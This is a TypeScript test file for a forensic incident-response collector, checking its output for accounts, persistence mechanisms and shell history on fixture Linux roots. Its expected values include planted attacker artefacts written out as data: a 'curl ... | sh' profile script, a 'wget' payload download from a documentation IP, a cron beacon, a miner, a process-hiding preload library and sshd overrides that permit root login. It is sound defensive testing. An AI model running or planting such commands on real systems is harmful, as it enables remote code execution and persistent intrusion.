import {execa} from 'execa'
import {createHash} from 'node:crypto'
import {mkdir, mkdtemp, readFile, symlink, writeFile} from 'node:fs/promises'
import {join} from 'node:path'
import {gunzipSync} from 'node:zlib'
import {beforeAll, describe, expect, it} from 'vitest'

import {fingerprint} from '../../src/collectors/parsers/persistence.js'
import {parseJson, runCli} from '../helpers/cli.js'
import {buildFixtureRoot, WINDOW_START} from '../helpers/fixture-root.js'
import {HISTORY_EPOCH, type HostLayout, keyBlob, PLANTED_HASHES} from '../helpers/host-fixture.js'
import {makeTempDir} from '../helpers/temp.js'

interface CollectJson {
  bundle_dir: string
  tarball: string
  status: string
  collectors: {id: string; status: string; reason?: string}[]
}

type Row = Record<string, unknown>

const jsonl = async (path: string): Promise<Row[]> =>
  (await readFile(path, 'utf8'))
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Row)

const HOST_COLLECTORS = 'accounts,persistence,shell-history'

let work: string
beforeAll(async () => {
  work = await makeTempDir('hipaa-ir-host-')
})

async function fixture(layout: HostLayout): Promise<string> {
  const root = await mkdtemp(join(work, `${layout}-root-`))
  await buildFixtureRoot(root, {host: layout, layout: layout === 'rhel' ? 'rhel' : 'debian'})
  return root
}

async function collect(root: string, collectors: string | undefined = HOST_COLLECTORS) {
  const out = await mkdtemp(join(work, 'out-'))
  const result = await runCli(['collect', '--case', 'IR-HOST', '--out-dir', out, '--root', root, '--since', WINDOW_START, '--json', ...(collectors ? ['--collectors', collectors] : [])])
  return {json: parseJson<CollectJson>(result), result}
}

const sha256 = async (path: string) => createHash('sha256').update(await readFile(path)).digest('hex')
const day = (days: number) => new Date(days * 86_400_000).toISOString().slice(0, 10)

describe.each(['debian', 'ubuntu', 'rhel'] as const)('accounts, persistence and shell-history on a %s root', (layout) => {
  let root: string
  let json: CollectJson
  let exitCode: number
  const admins = layout === 'rhel' ? 'wheel' : 'sudo'
  beforeAll(async () => {
    root = await fixture(layout)
    const run = await collect(root)
    json = run.json
    exitCode = run.result.exitCode
    expect(exitCode, run.result.stderr).toBe(0)
  })

  it('runs the three in order of volatility, after auth and audit and before the PHI walk, each ok', () => {
    const ran = json.collectors.filter((c) => c.status !== 'skipped')
    expect(ran.map((c) => [c.id, c.status])).toEqual([['accounts', 'ok'], ['persistence', 'ok'], ['shell-history', 'ok']])
    const ids = json.collectors.map((c) => c.id)
    expect(ids.indexOf('audit')).toBeLessThan(ids.indexOf('accounts'))
    expect(ids.indexOf('shell-history')).toBeLessThan(ids.indexOf('phi-files'))
    expect(json.status).toBe('complete')
  })

  it('lists every account with its groups, sudo rights from sudoers and sudoers.d, and only the password state', async () => {
    const rows = await jsonl(join(json.bundle_dir, 'accounts/accounts.jsonl'))
    const by = Object.fromEntries(rows.map((r) => [r.user, r]))
    expect(Object.keys(by)).toEqual(['root', 'daemon', 'nobody', 'alice', 'bob', 'svc', 'legacy'])
    expect(by.root).toMatchObject({gid: 0, groups: ['root'], home: '/root', last_change: day(19_700), password: 'set', shell: '/bin/bash', sudo: true, uid: 0})
    expect(by.root?.sudo_via).toEqual(['uid 0', '/etc/sudoers:2: root ALL=(ALL:ALL) ALL'])
    expect(by.alice).toMatchObject({groups: ['alice', admins, 'adm'], last_change: day(20_500), password: 'set', sudo: true, uid: 1001})
    expect(by.alice?.sudo_via).toEqual([`/etc/sudoers:3: %${admins} ALL=(ALL:ALL) ALL`])
    expect(by.bob).toMatchObject({groups: ['bob', 'ops'], password: 'locked', shell: '/bin/zsh', sudo: true})
    expect(by.bob?.sudo_via).toEqual(['/etc/sudoers.d/ops:1: %ops ALL=(root) NOPASSWD: /usr/bin/systemctl'])
    // svc.disabled holds a dot: sudo never reads it, and neither does the collector.
    expect(by.svc).toMatchObject({password: 'none', sudo: false, sudo_via: []})
    expect(by.daemon).toMatchObject({password: 'locked', sudo: false})
    // RHEL's legacy account keeps its hash in passwd: its state comes from there.
    expect(by.legacy).toMatchObject({password: layout === 'rhel' ? 'set' : null, last_change: null})
    for (const row of rows) expect(JSON.stringify(row)).not.toMatch(/\$(y|6|1|2[aby]?|5)\$/)
  })

  it('copies passwd, group and every sudoers file read, never shadow, and a passwd hash only as "<hash removed>"', async () => {
    const manifest = JSON.parse(await readFile(join(json.bundle_dir, 'manifest.json'), 'utf8'))
    const accounts = manifest.collectors.find((c: {id: string}) => c.id === 'accounts')
    expect(accounts.files.sort()).toEqual(['accounts/accounts.jsonl', 'accounts/raw/etc/group', 'accounts/raw/etc/passwd', 'accounts/raw/etc/sudoers', 'accounts/raw/etc/sudoers.d/ops'])
    const passwd = await readFile(join(json.bundle_dir, 'accounts/raw/etc/passwd'), 'utf8')
    expect(passwd).toContain('alice:x:1001:1001:Alice,,,:/home/alice:/bin/bash')
    expect(passwd).toContain(layout === 'rhel' ? 'legacy:<hash removed>:1003' : 'legacy:x:1003')
    expect(await readFile(join(json.bundle_dir, 'accounts/raw/etc/sudoers.d/ops'), 'utf8')).toBe(await readFile(join(root, 'etc/sudoers.d/ops'), 'utf8'))
    if (layout === 'rhel') expect(accounts.warnings.join(' ')).toMatch(/passwd holds 1 password hash/)
  })

  it('lists cron jobs of /etc/crontab, cron.d, the periodic folders and the spool, with SHA-256 and mtime', async () => {
    const rows = (await jsonl(join(json.bundle_dir, 'persistence/persistence.jsonl'))).filter((r) => r.kind === 'cron')
    const backdoor = rows.find((r) => r.path === '/etc/cron.d/backdoor')
    expect(backdoor).toMatchObject({detail: '/tmp/.x/beacon.sh', mtime: '2026-03-03T09:40:00.000Z', schedule: '*/5 * * * *', sha256: await sha256(join(root, 'etc/cron.d/backdoor')), user: 'root'})
    const spool = layout === 'rhel' ? '/var/spool/cron/alice' : '/var/spool/cron/crontabs/alice'
    expect(rows.find((r) => r.path === spool)).toMatchObject({detail: '/home/alice/.local/bin/miner --quiet', line: 2, schedule: '@reboot', user: 'alice'})
    expect(rows.find((r) => r.path === '/etc/crontab')).toMatchObject({detail: 'cd / && run-parts --report /etc/cron.hourly', user: 'root'})
    expect(rows.find((r) => r.path === '/etc/cron.daily/logrotate')).toMatchObject({schedule: '@daily', user: 'root'})
    expect(rows.filter((r) => r.path === spool)).toHaveLength(1)
  })

  it('lists systemd units and timers, system and per user, enabled or not, masked, and drop-ins', async () => {
    const rows = (await jsonl(join(json.bundle_dir, 'persistence/persistence.jsonl'))).filter((r) => String(r.kind).startsWith('systemd'))
    const sshUnit = layout === 'rhel' ? 'sshd.service' : 'ssh.service'
    const vendor = layout === 'debian' ? '/lib/systemd/system' : '/usr/lib/systemd/system'
    expect(rows.find((r) => r.path === '/etc/systemd/system/evil.service')).toMatchObject({detail: 'ExecStart=/usr/local/bin/evil --daemon', enabled: true, kind: 'systemd-unit', scope: 'system', user: 'root', wanted_by: ['multi-user.target']})
    expect(rows.find((r) => r.path === '/etc/systemd/system/backup.timer')).toMatchObject({detail: 'OnCalendar=*-*-* 03:00:00; Unit=backup.service', enabled: true, kind: 'systemd-timer'})
    expect(rows.find((r) => r.path === '/etc/systemd/system/cron.service')).toMatchObject({detail: 'masked (a link to /dev/null)', enabled: false, sha256: null})
    // Merged /usr: /lib/systemd/system and /usr/lib/systemd/system are one folder, listed once.
    const ssh = rows.filter((r) => r.unit === sshUnit)
    expect(ssh).toHaveLength(1)
    expect(ssh[0]).toMatchObject({enabled: true, path: `${vendor}/${sshUnit}`, sha256: await sha256(join(root, vendor, sshUnit))})
    expect(rows.find((r) => r.drop_in_for === sshUnit)).toMatchObject({detail: 'ExecStart=/usr/sbin/sshd -D -o PermitRootLogin=yes', path: `/etc/systemd/system/${sshUnit}.d/override.conf`})
    expect(rows.find((r) => r.path === '/home/alice/.config/systemd/user/agent.service')).toMatchObject({detail: 'ExecStart=/home/alice/.local/bin/agent', enabled: true, scope: 'user', user: 'alice'})
    expect(rows.find((r) => r.unit === 'cron.service' && r.sha256 !== null)).toMatchObject({enabled: false, path: `${vendor}/cron.service`})
  })

  it('lists every authorized key where sshd_config puts them, with the fingerprint ssh-keygen prints, its options and comment', async () => {
    const rows = (await jsonl(join(json.bundle_dir, 'persistence/persistence.jsonl'))).filter((r) => r.kind === 'authorized-key')
    const {stdout} = await execa('ssh-keygen', ['-lf', join(root, 'root/.ssh/authorized_keys')])
    const fromSshKeygen = stdout.split('\n').map((l) => l.split(' ')[1])
    expect(rows.map((r) => [r.user, r.path, r.fingerprint, r.comment])).toEqual([
      ['root', '/root/.ssh/authorized_keys', fromSshKeygen[0], 'admin@laptop'],
      ['root', '/root/.ssh/authorized_keys', fromSshKeygen[1], 'backup@vault'],
      ['alice', '/home/alice/.ssh/authorized_keys', fingerprint(keyBlob(3)), 'alice@home'],
      ['svc', '/etc/ssh/keys/svc', fingerprint(keyBlob(4)), 'svc@deploy'],
    ])
    expect(rows[1]).toMatchObject({detail: `${fromSshKeygen[1]} backup@vault options from="203.0.113.7",command="/usr/bin/rsync --server -e.LsfxC . /backup"`, mtime: expect.stringMatching(/^\d{4}-/), sha256: await sha256(join(root, 'root/.ssh/authorized_keys'))})
  })

  it('lists ld.so.preload, rc.local, profile scripts and sshd drop-ins', async () => {
    const rows = await jsonl(join(json.bundle_dir, 'persistence/persistence.jsonl'))
    const of = (kind: string) => rows.filter((r) => r.kind === kind)
    expect(of('ld-preload').map((r) => r.detail)).toEqual(layout === 'ubuntu' ? ['/usr/lib/x86_64-linux-gnu/libprocesshider.so'] : [])
    expect(of('rc-local')).toHaveLength(1)
    expect(of('rc-local')[0]?.detail).toContain('/usr/local/bin/evil --boot')
    expect(of('profile-script').find((r) => r.path === '/etc/profile.d/zz-update.sh')).toMatchObject({detail: 'curl -s http://198.51.100.9/x | sh', user: 'root'})
    expect(of('profile-script').find((r) => r.path === '/home/alice/.bashrc')).toMatchObject({user: 'alice'})
    expect(of('sshd-dropin')).toEqual([expect.objectContaining({detail: 'PasswordAuthentication yes; PermitRootLogin yes', user: 'root'})])
    const manifest = JSON.parse(await readFile(join(json.bundle_dir, 'manifest.json'), 'utf8'))
    const files: string[] = manifest.collectors.find((c: {id: string}) => c.id === 'persistence').files
    expect(files).toEqual(expect.arrayContaining(['persistence/persistence.jsonl', 'persistence/raw/etc/cron.d/backdoor', 'persistence/raw/root/.ssh/authorized_keys', 'persistence/raw/etc/systemd/system/evil.service']))
    for (const row of rows) if (row.sha256 !== null) expect(row.sha256).toMatch(/^[0-9a-f]{64}$/)
  })

  it('keeps every history line with user, shell, path, position and the time where the file has one', async () => {
    const rows = await jsonl(join(json.bundle_dir, 'shell-history/history.jsonl'))
    const iso = (s: number) => new Date((HISTORY_EPOCH + s) * 1000).toISOString()
    expect(rows).toEqual(expect.arrayContaining([
      {command: 'mysql -u root -pS3cretPW phi', n: 1, path: '/root/.bash_history', shell: 'bash', time: iso(0), user: 'root'},
      {command: 'tar czf /tmp/x.tgz /var/data/phi', n: 2, path: '/root/.bash_history', shell: 'bash', time: iso(60), user: 'root'},
      {command: 'cat /etc/passwd', n: 2, path: '/home/alice/.bash_history', shell: 'bash', time: null, user: 'alice'},
      {command: 'echo one \ntwo', n: 2, path: '/home/bob/.zsh_history', shell: 'zsh', time: iso(110), user: 'bob'},
      {command: 'wget http://198.51.100.9/payload', n: 1, path: '/home/mallory/.bash_history', shell: 'bash', time: null, user: process.getuid?.() === 0 ? '#4242' : expect.any(String)},
    ]))
    expect(rows).toHaveLength(7)
  })

  it('lets no password hash into the bundle: the decompressed tarball holds none of those planted', async () => {
    const tar = gunzipSync(await readFile(json.tarball)).toString('latin1')
    expect(tar.length).toBeGreaterThan(10_000)
    expect(tar).toContain('accounts/accounts.jsonl')
    for (const hash of PLANTED_HASHES[layout]) {
      const bare = hash.replace(/^!/, '')
      expect(tar.includes(bare), `planted hash ${bare.slice(0, 12)}… found in the tarball`).toBe(false)
      // Not even the salt.
      expect(tar.includes(bare.split('$')[3] as string)).toBe(false)
    }
  })
})

describe('no hash in a full collection either', () => {
  it('runs every collector on the RHEL root (legacy hash in passwd) and the tarball holds none of the planted hashes', async () => {
    const root = await fixture('rhel')
    const {json} = await collect(root, undefined)
    expect(json.collectors.find((c) => c.id === 'accounts')?.status).toBe('ok')
    const tar = gunzipSync(await readFile(json.tarball)).toString('latin1')
    for (const hash of PLANTED_HASHES.rhel) expect(tar.includes(hash.replace(/^!/, ''))).toBe(false)
    expect(tar).toContain('<hash removed>')
  })
})

describe('links and odd files inside the root', () => {
  let root: string
  let outside: string
  let json: CollectJson
  let exitCode: number
  beforeAll(async () => {
    root = await fixture('debian')
    // The same absolute path on this machine and inside the image, with different contents.
    outside = await mkdtemp(join(work, 'outside-'))
    const same = async (name: string, host: string, image: string) => {
      await writeFile(join(outside, name), host)
      await mkdir(join(root, outside), {recursive: true})
      await writeFile(join(root, outside, name), image)
    }
    await same('keys', `ssh-ed25519 ${keyBlob(9)} HOST-KEY\n`, `ssh-ed25519 ${keyBlob(8)} IMAGE-KEY\n`)
    await same('history', 'HOST-HISTORY\n', 'IMAGE-HISTORY\n')
    await same('sudo-rule', 'daemon ALL=(ALL) ALL\n', 'nobody ALL=(ALL) ALL\n')
    await mkdir(join(root, 'home/bob/.ssh'), {recursive: true})
    await symlink(join(outside, 'keys'), join(root, 'home/bob/.ssh/authorized_keys'))
    await symlink(join(outside, 'history'), join(root, 'home/bob/.bash_history'))
    await symlink(join(outside, 'sudo-rule'), join(root, 'etc/sudoers.d/linked'))
    // A FIFO where a crontab belongs: never opened, and said so.
    await execa('mkfifo', [join(root, 'etc/cron.d/pipe')])
    const run = await collect(root)
    json = run.json
    exitCode = run.result.exitCode
  })

  it('follows an absolute link below the root, never onto this machine', async () => {
    const keys = (await jsonl(join(json.bundle_dir, 'persistence/persistence.jsonl'))).filter((r) => r.user === 'bob' && r.kind === 'authorized-key')
    expect(keys.map((r) => r.comment)).toEqual(['IMAGE-KEY'])
    const history = (await jsonl(join(json.bundle_dir, 'shell-history/history.jsonl'))).filter((r) => r.command === 'IMAGE-HISTORY' || r.command === 'HOST-HISTORY')
    expect(history.map((r) => r.command)).toEqual(['IMAGE-HISTORY'])
    const accounts = Object.fromEntries((await jsonl(join(json.bundle_dir, 'accounts/accounts.jsonl'))).map((r) => [r.user, r]))
    expect(accounts.nobody?.sudo).toBe(true)
    expect(accounts.daemon?.sudo).toBe(false)
  })

  it('says what it could not read and why: the FIFO makes persistence partial, named in the manifest and the log', async () => {
    expect(exitCode).toBe(4)
    const persistence = json.collectors.find((c) => c.id === 'persistence')
    expect(persistence).toMatchObject({status: 'partial'})
    expect(persistence?.reason).toContain('/etc/cron.d/pipe: is not a regular file')
    const log = await readFile(join(json.bundle_dir, 'acquisition.jsonl'), 'utf8')
    expect(log).toContain('/etc/cron.d/pipe')
    expect(json.collectors.find((c) => c.id === 'accounts')?.status).toBe('ok')
  })
})

describe('an image without /etc/passwd', () => {
  it('skips accounts as a missing source (incomplete, exit 0) and still reads root\'s history and keys', async () => {
    const root = await mkdtemp(join(work, 'nopasswd-root-'))
    await buildFixtureRoot(root, {host: false, layout: 'debian'})
    await mkdir(join(root, 'root/.ssh'), {recursive: true})
    await writeFile(join(root, 'root/.bash_history'), 'id\n')
    await writeFile(join(root, 'root/.ssh/authorized_keys'), `ssh-ed25519 ${keyBlob(5)} lone@key\n`)
    const {json, result} = await collect(root)
    expect(result.exitCode, result.stderr).toBe(0)
    expect(json.status).toBe('incomplete')
    expect(json.collectors.find((c) => c.id === 'accounts')).toMatchObject({reason: 'no /etc/passwd on this system: no accounts to list', status: 'skipped'})
    expect(await jsonl(join(json.bundle_dir, 'shell-history/history.jsonl'))).toEqual([{command: 'id', n: 1, path: '/root/.bash_history', shell: 'bash', time: null, user: 'root'}])
    const keys = (await jsonl(join(json.bundle_dir, 'persistence/persistence.jsonl'))).filter((r) => r.kind === 'authorized-key')
    expect(keys).toEqual([expect.objectContaining({comment: 'lone@key', path: '/root/.ssh/authorized_keys', user: 'root'})])
  })
})
